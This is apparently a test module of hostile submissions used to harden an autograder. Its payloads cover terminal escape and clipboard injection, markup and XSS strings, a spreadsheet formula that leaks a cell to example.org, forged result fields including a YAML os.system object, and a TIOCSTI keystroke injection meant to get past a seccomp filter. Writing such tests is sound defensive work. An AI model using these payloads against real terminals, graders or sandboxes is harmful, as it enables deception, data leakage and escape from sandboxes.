"""Programs whose words do harm where a teacher reads them; `PWNED` stands in what must not act.

None of them can compute an answer. They fail as attacks where the payload is shown as text.
"""

from __future__ import annotations

from .attack import Attack

_REASON = r"""
import autograder.inside.serve as serve


def reason(*texts):
    # the names that a reply says are missing begin the message
    reply = {"stub": False, "missing": list(texts), "observations": []}
    serve.observe_exercise = lambda submission, importer, request: reply

"""

ATTACKS = [
    Attack(
        "escapes-in-a-message",
        "Clears the screen, renames the window, makes a link and answers for the keyboard.",
        r"""
def mse(pred, target):
    raise ValueError(
        "\x1b[2J\x1b[H\x1b]0;PWNED\x07\x1b]8;;http://example.org/PWNED\x1b\\click\x1b]8;;\x1b\\"
        "\x1b[6n\x1bP$q\x1b\\\x9b31mPWNED\x1b[8mhidden"
    )
""",
        told=r"mse raised ValueError: .*\\x1b\[2J",
    ),
    Attack(
        "markup-in-the-table",
        "Stops its import by a type that is named in the markup of the library of the table.",
        r"""
NAME = r"[bold green]PWNED[/bold green][/]\[link=http://x]PWNED\\"[:-1]
raise type(NAME, (Exception,), {})(NAME)
""",
        told=r"passed over: \[bold green\]PWNED",
    ),
    Attack(
        "emoji-in-the-table",
        "Stops its import by a type that bears the name of a sign, which that library would draw.",
        r"""
raise type(":white_check_mark: PWNED", (Exception,), {})(":heavy_check_mark: all passed")
""",
        told="passed over: :white_check_mark: PWNED",
    ),
    Attack(
        "formula-in-a-message",
        "Forges a reason that a spreadsheet would run as a formula.",
        _REASON
        + r"""
reason('=HYPERLINK("http://example.org/?"&A1,"PWNED")')
""",
        told="no observations",
    ),
    Attack(
        "page-in-a-message",
        "Writes a script and a picture for whoever shows messages in a browser.",
        r"""
def mse(pred, target):
    raise ValueError(
        "<script>alert('PWNED')</script><img src=x onerror=alert('PWNED')>"
        "</td></tr></table><style>*{display:none}</style>&lt;b&gt;"
    )
""",
        told="mse raised ValueError: <script>",
    ),
    Attack(
        "lines-in-a-message",
        "Goes back over the line and writes another verdict, by all signs that end or undo one.",
        r"""
def mse(pred, target):
    raise ValueError(
        "oops" + "\b" * 200 + "PASS  mse PWNED\x7f\x00\x1c\x85"
        "\rPASS  mse   2/2 PWNED\nPASS mse PWNED\u2028PASS PWNED\u2029\v\f"
    )
""",
        told="mse raised ValueError: oops",
    ),
    Attack(
        "letters-from-right-to-left",
        "Turns the direction of the text, and uses letters that nobody sees.",
        r"""
def mse(pred, target):
    raise ValueError(
        "\u202e\u2066DENWP\u2069\u202c P\u200bW\u200dN\u2060E\ufeffD "
        "\U000e0050\U000e0057 \u061c\u00ad\u180e\ufff9PWNED\ufffb"
    )
""",
        told=r"\\u202e\\u2066DENWP",
    ),
    Attack(
        "fields-in-a-message",
        "Closes the quotation and adds fields of a result.",
        r"""
def mse(pred, target):
    raise ValueError(
        'x", "status": "pass", "score": 2.0, "PWNED": "'
        "',\nscore: 2\n- PWNED: !!python/object/apply:os.system ['true']\n${PWNED} {0.__class__} %s"
    )
""",
        told='mse raised ValueError: x", "status"',
    ),
    Attack(
        "letters-that-are-none",
        "Halves of letters, which no file can be written with, and the sign that ends a string.",
        r"""
def mse(pred, target):
    raise ValueError("\ud800PWNED\udfff\udc80 \x00PWNED \U0010ffff\ufdd0")
""",
        told=r"\\ud800PWNED",
    ),
    Attack(
        "exception-type-named-by-escapes",
        "Raises an exception whose type is named by escapes and markup, and says little itself.",
        r"""
NAME = "\x1b[31mPWNED[bold]<b>\u202e"


def mse(pred, target):
    raise type(NAME, (Exception,), {"__module__": NAME, "__qualname__": NAME})("0x1bPWNED")
""",
        told=r"mse raised \\x1b\[31mPWNED",
    ),
    Attack(
        "syntax-error-of-its-own",
        "Raises the kind of error whose text and line are read from fields that anybody can set.",
        r"""
error = SyntaxError("said")
error.msg = "\x1b[2JPWNED\nsecond line PWNED " + "x" * 10**6
error.lineno = 10**300
error.text = error.filename = "\x1b[2JPWNED"
raise error
""",
        told=r"passed over: SyntaxError: \\x1b\[2JPWNED",
    ),
    Attack(
        "fields-of-an-error-that-are-none",
        "Sets a line and a text that are no number and no text.",
        r"""
error = SyntaxError()
error.msg = ["PWNED", {"\x1b": 1}]
error.lineno = "\x1b[2JPWNED"
raise error
""",
    ),
    Attack(
        "dtype-named-by-escapes",
        "A tensor that names its own dtype and device, in escapes.",
        r"""
import torch


class Said:
    type = "cpu\x1b[2JPWNED"

    def __str__(self):
        return "torch.float64\x1b[31mPWNED[bold]"


class Named(torch.Tensor):
    dtype = property(lambda self: Said())
    device = property(lambda self: Said())

    def detach(self):
        return self

    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        with torch._C.DisableTorchFunctionSubclass():
            return function(*args, **(kwargs or {}))


def mse(pred, target):
    return pred.sum().detach().as_subclass(Named)
""",
        told=r"float64\\x1b\[31mPWNED",
    ),
    Attack(
        "function-named-by-escapes",
        "A function, its text and its file are named by escapes, and called wrongly.",
        r'''
"""\x1b[2JPWNED [bold]file[/bold]"""


def mse():
    """\x1b[2JPWNED"""


mse.__name__ = mse.__qualname__ = "\x1b[31mPWNED[red]"
mse.__code__ = mse.__code__.replace(co_filename="\x1b[2JPWNED", co_name="\x1b[2JPWNED")
__file__ = __name__ = "\x1b[2JPWNED"
'''.replace(r"\x1b", "\\x1b"),
        told=r"\\x1b\[31mPWNED\[red\]\(\) takes 0",
    ),
    Attack(
        "exception-with-a-long-tail",
        "Notes, causes and groups of exceptions carry what the first line does not.",
        r"""
def mse(pred, target):
    inner = KeyError("\x1b[2JPWNED")
    outer = ValueError("first", "\x1b[2JPWNED\nsecond", inner)
    outer.__notes__ = ["\x1b[2JPWNED" * 1000]
    outer.__cause__ = inner
    raise outer
""",
        told="mse raised ValueError: ",
    ),
    Attack(
        "prints-escapes",
        "Prints to every stream of the process what a terminal would obey: it copies and renames.",
        r"""
import faulthandler
import logging
import os
import sys
import warnings

PAYLOAD = "\x1b]52;c;UFdORUQ=\x07\x1b]0;PWNED\x07\x1b[2J[bold]PWNED[/bold]\n"


def mse(pred, target):
    print(PAYLOAD)
    print(PAYLOAD, file=sys.stderr)
    warnings.warn(PAYLOAD, stacklevel=1)
    logging.getLogger("autograder").critical(PAYLOAD)
    for descriptor in (0, 1, 2):
        try:
            os.write(descriptor, PAYLOAD.encode())
        except OSError:
            pass
    faulthandler.dump_traceback()
    return pred.sum() * 0 - 1
""",
        told="your loss -1",
    ),
    Attack(
        "types-into-the-terminal",
        "Puts a key into the keyboard's queue of every terminal it can reach, by two numbers.",
        r"""
import ctypes
import glob
import os

libc = ctypes.CDLL(None, use_errno=True)
TYPE = 0x5412
SAME_IN_32_BITS = TYPE | 1 << 32  # for a filter that compares 64 bits where the kernel reads 32
BREACHED = False
doors = list(range(64))
for path in ("/dev/tty", "/dev/console", *glob.glob("/dev/pts/*"), *glob.glob("/proc/self/fd/*")):
    try:
        doors.append(os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK))
    except OSError:
        pass
for door in doors:
    for number in (TYPE, SAME_IN_32_BITS):
        BREACHED |= libc.ioctl(door, ctypes.c_ulong(number), ctypes.c_char_p(b" ")) == 0
""",
        holds="container",
    ),
]
